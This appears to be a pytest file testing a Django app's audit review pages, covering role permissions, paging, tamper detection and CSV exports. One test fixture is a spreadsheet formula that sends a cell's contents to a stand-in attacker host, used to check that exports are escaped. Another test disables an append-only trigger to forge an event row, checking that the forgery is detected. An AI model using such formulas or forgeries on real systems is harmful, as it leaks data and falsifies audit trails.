"""Audit review (steering_app.audit): read-only pages over events and steering commands, the chain's verification
per task, CSV exports; an `auditors` group that reads and cannot steer, an `operators` group that steers."""

import csv
import importlib
import io
from types import SimpleNamespace
from urllib.parse import parse_qsl

import pytest
from django.apps import apps as global_apps
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.db import connection, transaction
from django.test import Client

from steering_app import audit_selectors
from steering_app.models import SteeringCommand
from steering_app.services import steering_submit
from tasks_app.audit.retention import purge_allowed
from tasks_app.models import Task, TaskEvent
from tasks_app.services import task_create
from tests.asgi_support import asgi_request
from tests.engine_support import drive
from tests.support.console import staff_in

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.usefixtures("external_root", "groups")]

groups_migration = importlib.import_module("steering_app.migrations.0003_auditors_and_operators_groups")
admin_actions_migration = importlib.import_module("steering_app.migrations.0004_groups_read_admin_actions")
SECRET = "ghp_" + "A1b2C3d4E5" * 3 + "F6g7H8"  # a GitHub token's shape: ghp_ and 36 characters
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


def finished_task(tenant) -> Task:
    task = task_create(tenant=tenant, owner=None, workflow="demo_steps", input={"steps": 3}).task
    assert drive(task.id) == ["completed"]
    return task


def steered_task(tenant, reason: str) -> Task:
    """A queued task whose priority was set (applied at once: no worker holds it), then driven to its end."""
    task = task_create(tenant=tenant, owner=None, workflow="demo_steps", input={"steps": 3}).task
    steering_submit(task=task, command_type="set_priority", payload={"priority": 8},
                    expected_version=task.state_version, reason=reason, requested_by="user:alice")
    assert drive(task.id) == ["completed"]
    return task


def db_now():
    with connection.cursor() as cursor:
        cursor.execute("SELECT clock_timestamp()")
        return cursor.fetchone()[0]


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_it_lets_an_auditor_read_events_commands_chain_state_and_csv_filtered(tenant, auditor):
    steered = steered_task(tenant, "more urgent now")
    other = finished_task(tenant)

    events = auditor.get("/admin/audit/events/", {"task": steered.id, "type": "steering.applied"})
    commands = auditor.get("/admin/audit/commands/", {"task": steered.id})
    verify = auditor.get("/admin/audit/verify/", {"task": [steered.id, other.id]})
    exported = csv_rows(auditor.get("/admin/audit/events.csv", {"task": steered.id}))
    commands_csv = csv_rows(auditor.get("/admin/audit/commands.csv", {"actor": "user:alice",
                                                                      "from": steered.created_at.isoformat()}))

    assert auditor.get("/admin/audit/").status_code == 200
    assert events.status_code == 200 and events.content.decode().count('class="audit-event"') == 1
    assert f"/admin/tasks_app/task/{steered.id}/change/" in events.content.decode()
    assert "user:alice" in events.content.decode() and str(other.id) not in events.content.decode()
    page = commands.content.decode()
    assert commands.status_code == 200 and page.count('class="audit-command"') == 1
    assert '<td class="audit-status">applied</td>' in page and "more urgent now" in page
    assert verify.status_code == 200 and verify.content.decode().count(">verified</td>") == 2
    assert [int(row["seq"]) for row in exported] == list(range(steered.events.count(), 0, -1))  # newest first
    assert {row["task"] for row in exported} == {str(steered.id)}
    assert [(row["task"], row["type"], row["status"]) for row in commands_csv] == [
        (str(steered.id), "set_priority", "applied")]


@pytest.mark.parametrize("path", ["/admin/audit/events/", "/admin/audit/commands/"])
def test_it_pages_by_keyset_without_repeating_or_skipping_a_row(tenant, auditor, monkeypatch, path):
    monkeypatch.setattr(audit_selectors, "PAGE_ROWS", 4)
    tasks = [steered_task(tenant, "one"), steered_task(tenant, "two"), finished_task(tenant)]
    for _ in range(2):
        queued = task_create(tenant=tenant, owner=None, workflow="demo_steps", input={"steps": 1}).task
        steering_submit(task=queued, command_type="set_priority", payload={"priority": 1}, expected_version=None,
                        reason="later", requested_by="user:bob")
    expected = {"/admin/audit/events/": TaskEvent.objects.count(),  # (this test's: the database starts empty)
                "/admin/audit/commands/": 4}[path]

    def walk(query):
        seen = []
        for _ in range(40):
            page = auditor.get(path, query)
            assert page.status_code == 200 and len(page.context["rows"]) <= 4
            seen += [(str(row["task_id"]), row.get("seq", row.get("new_version"))) for row in page.context["rows"]]
            if not page.context["next_query"]:
                return seen
            query = dict(parse_qsl(page.context["next_query"]))
        raise AssertionError("no last page")

    everything = walk({"from": tasks[0].created_at.isoformat()})
    one_task = walk({"task": tasks[0].id})

    assert len(everything) == len(set(everything)) == expected
    assert one_task == sorted(one_task, key=lambda key: -key[1]) and {t for t, _ in one_task} == {str(tasks[0].id)}


def test_it_refuses_the_audit_to_staff_without_a_view_permission(tenant):
    visitor = Client()
    visitor.force_login(get_user_model().objects.create_user("visitor", is_staff=True))
    outsider = Client()
    outsider.force_login(get_user_model().objects.create_user("outsider"))

    for url in ("/admin/audit/", "/admin/audit/events/", "/admin/audit/commands/", "/admin/audit/verify/",
                "/admin/audit/events.csv", "/admin/audit/commands.csv"):
        assert visitor.get(url).status_code == 403, url
        assert outsider.get(url).status_code == 302, url  # not staff: the admin's login page


def test_it_gives_an_auditor_403_on_every_steering_page_and_action(tenant, auditor):
    task = task_create(tenant=tenant, owner=None, workflow="demo_steps", input={"steps": 3}).task
    base = f"/admin/tasks_app/task/{task.id}"
    form = {"type": "set_priority", "priority": 9, "reason": "because", "expected_version": task.state_version}

    for page in ("steer/", "steer/goal/", "steer/wait/"):
        assert auditor.get(f"{base}/{page}").status_code == 403, page
        assert auditor.post(f"{base}/{page}", form).status_code == 403, page
    for action in ("pause_tasks", "resume_tasks", "cancel_tasks"):
        asked = auditor.post("/admin/tasks_app/task/", {"action": action, "_selected_action": [task.id]})
        sent = auditor.post("/admin/tasks_app/task/", {"action": action, "_selected_action": [task.id],
                                                       "reason": "because"})
        assert asked.status_code == sent.status_code == 403, action

    assert auditor.get(f"{base}/change/").status_code == 200  # it reads the task all the same
    assert not SteeringCommand.objects.filter(task_id=task.id).exists()
    assert Task.objects.values_list("priority", "status").get(id=task.id) == (5, "queued")


def test_it_lets_an_operator_steer(tenant, operator):
    task = task_create(tenant=tenant, owner=None, workflow="demo_steps", input={"steps": 3}).task
    base = f"/admin/tasks_app/task/{task.id}"

    page = operator.get(f"{base}/steer/")
    sent = operator.post(f"{base}/steer/", {"type": "set_priority", "priority": 9, "reason": "customer waiting",
                                            "expected_version": task.state_version})
    paused = operator.post("/admin/tasks_app/task/", {"action": "pause_tasks", "_selected_action": [task.id],
                                                      "reason": "maintenance"})

    assert page.status_code == 200 and b'value="kill"' not in page.content  # kill is per person, not per group
    assert sent.status_code == 302
    command = SteeringCommand.objects.get(task_id=task.id, type="set_priority")
    assert (command.payload, command.requested_by, command.reason) == ({"priority": 9}, "user:oscar",
                                                                        "customer waiting")
    assert paused.status_code == 302 and SteeringCommand.objects.filter(task_id=task.id, type="pause").exists()


def test_it_shows_a_tampered_or_truncated_chain_as_not_verified_with_its_seq(tenant, auditor):
    intact, edited, cut = finished_task(tenant), finished_task(tenant), finished_task(tenant)
    with transaction.atomic(), connection.cursor() as cursor:
        # The append-only trigger (tasks_app migration 0002) refuses UPDATE: a tamperer with table rights disables it.
        cursor.execute("ALTER TABLE tasks_app_taskevent DISABLE TRIGGER tasks_app_taskevent_append_only")
        cursor.execute("""UPDATE tasks_app_taskevent SET data = data || '{"phase": "forged"}'
                           WHERE task_id = %s AND seq = 3""", [edited.id])
        cursor.execute("ALTER TABLE tasks_app_taskevent ENABLE TRIGGER tasks_app_taskevent_append_only")
    with purge_allowed():  # DELETE is refused outside the purge's transaction (migration 0029)
        TaskEvent.objects.filter(task_id=cut.id, seq=2).delete()

    page = auditor.get("/admin/audit/verify/", {"task": [intact.id, edited.id, cut.id]})

    states = {str(item["state"].task_id): item["state"].first_bad_seq for item in page.context["states"]}
    assert states == {str(intact.id): None, str(edited.id): 3, str(cut.id): 2}
    assert page.content.decode().count("NOT verified: first bad seq 3") == 1
    assert page.content.decode().count("NOT verified: first bad seq 2") == 1


def test_it_escapes_formulas_and_redacts_secrets_in_the_csv(tenant, auditor):
    task = steered_task(tenant, f"{FORMULA} token {SECRET}")

    commands = auditor.get("/admin/audit/commands.csv", {"task": task.id})
    body = b"".join(commands.streaming_content).decode()
    events = b"".join(auditor.get("/admin/audit/events.csv", {"task": task.id}).streaming_content).decode()
    page = auditor.get("/admin/audit/commands/", {"task": task.id}).content.decode()

    (row,) = csv.DictReader(io.StringIO(body))
    assert row["reason"].startswith("'=HYPERLINK(") and "[redacted-token]" in row["reason"]
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in row.values())
    assert SECRET not in body and SECRET not in events and SECRET not in page
    assert "[redacted-token]" in events and "[redacted-token]" in page
    assert '=HYPERLINK(&quot;http://evil.example/' in page  # the page shows it as text, escaped


def test_it_filters_by_time_range_and_tenant(tenant, other_tenant, auditor):
    before = finished_task(tenant)
    boundary = db_now()
    after = finished_task(tenant)
    elsewhere = finished_task(other_tenant)

    def tasks_on(path, **query):
        response = auditor.get(path, query)
        assert response.status_code == 200, response.content[:500]
        if path.endswith(".csv"):
            return {row["task"] for row in csv_rows(response)}
        return {str(row["task_id"]) for row in response.context["rows"]}

    start = before.created_at.isoformat()
    assert tasks_on("/admin/audit/events/", **{"from": start}) == {str(before.id), str(after.id), str(elsewhere.id)}
    assert tasks_on("/admin/audit/events/", **{"from": boundary.isoformat()}) == {str(after.id), str(elsewhere.id)}
    assert tasks_on("/admin/audit/events/", **{"from": start, "to": boundary.isoformat()}) == {str(before.id)}
    assert tasks_on("/admin/audit/events/", **{"from": start, "tenant": "globex"}) == {str(elsewhere.id)}
    assert tasks_on("/admin/audit/events.csv", **{"from": boundary.isoformat(), "tenant": "acme"}) == {str(after.id)}


def test_it_filters_commands_by_tenant_actor_and_type(tenant, other_tenant, auditor):
    ours = steered_task(tenant, "ours")
    theirs = steered_task(other_tenant, "theirs")
    steering_submit(task=task_create(tenant=tenant, owner=None, workflow="demo_steps", input={"steps": 3}).task,
                    command_type="pause", expected_version=None, reason="hold", requested_by="token:art_abc")
    start = ours.created_at.isoformat()

    def commands(**query):
        return [(row["type"], str(row["task_id"])) for row in
                auditor.get("/admin/audit/commands/", {"from": start, **query}).context["rows"]]

    assert commands(tenant="globex") == [("set_priority", str(theirs.id))]
    assert [t for t, _ in commands(tenant="acme")] == ["pause", "set_priority"]  # newest first
    assert [t for t, _ in commands(actor="token:art_abc")] == ["pause"]
    assert commands(type="set_priority", tenant="acme") == [("set_priority", str(ours.id))]


def test_it_requires_a_task_or_a_bounded_window(auditor):
    assert auditor.get("/admin/audit/events/", {"type": "status"}).status_code == 400  # no task, no window
    too_long = {"from": "2026-01-01T00:00:00", "to": "2026-03-01T00:00:00"}
    assert auditor.get("/admin/audit/events/", too_long).status_code == 400
    assert auditor.get("/admin/audit/commands.csv", too_long).status_code == 400
    assert auditor.get("/admin/audit/events/", {"from": "2026-01-01T00:00:00", "after": "x"}).status_code == 400
    assert auditor.get("/admin/audit/events/").status_code == 200  # nothing chosen: the last day


# Django reads a sync iterator to its end under ASGI (the whole export in memory), and warns: here, that fails.
@pytest.mark.filterwarnings("error:StreamingHttpResponse must consume synchronous iterators")
def test_it_streams_the_csv_under_asgi(tenant, auditor):
    task = finished_task(tenant)

    response = asgi_request("GET", "/admin/audit/events.csv", query=f"task={task.id}",
                            headers={"Cookie": f"sessionid={auditor.cookies['sessionid'].value}"})

    assert response.status == 200 and response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.body.decode())))
    assert len(rows) == Task.objects.get(id=task.id).event_seq and rows[0]["type"] == "terminal"


def test_it_creates_the_groups_idempotently_and_takes_back_only_what_it_gave():
    schema_editor = SimpleNamespace(connection=connection)
    groups_migration.create_groups(global_apps, schema_editor)  # (the fixture ran it once already)
    auditors = set(Group.objects.get(name="auditors").permissions.values_list("codename", flat=True))
    operators = set(Group.objects.get(name="operators").permissions.values_list("codename", flat=True))
    get_user_model().objects.create_user("member").groups.add(Group.objects.get(name="operators"))

    admin_actions_migration.take_back(global_apps, schema_editor)  # (a rollback reverses 0004 first)
    groups_migration.remove_groups(global_apps, schema_editor)

    assert {"view_task", "view_steeringcommand"} <= auditors and not {"add_steeringcommand", "kill_task"} & auditors
    assert all(codename.startswith("view_") for codename in auditors)
    assert operators - auditors == {"add_steeringcommand"}
    assert "view_adminaction" in auditors  # (0004: both roles read the admin actions)
    assert not Group.objects.filter(name="auditors").exists()  # empty: deleted
    assert Group.objects.get(name="operators").user_set.count() == 1  # has a member: kept, without the grants
    assert not Group.objects.get(name="operators").permissions.exists()


def test_it_lets_the_legacy_auditors_read_the_trail_but_only_the_auditor_role_export_it(tenant):
    task = finished_task(tenant)
    legacy = staff_in("auditors", "old-audrey")

    page = legacy.get("/admin/audit/events/", {"task": task.id})
    export = legacy.get("/admin/audit/events.csv", {"task": task.id})

    assert page.status_code == 200 and page.context["rows"] and not page.context["may_export"]
    assert export.status_code == 403 and "auditor role" in export.content.decode()
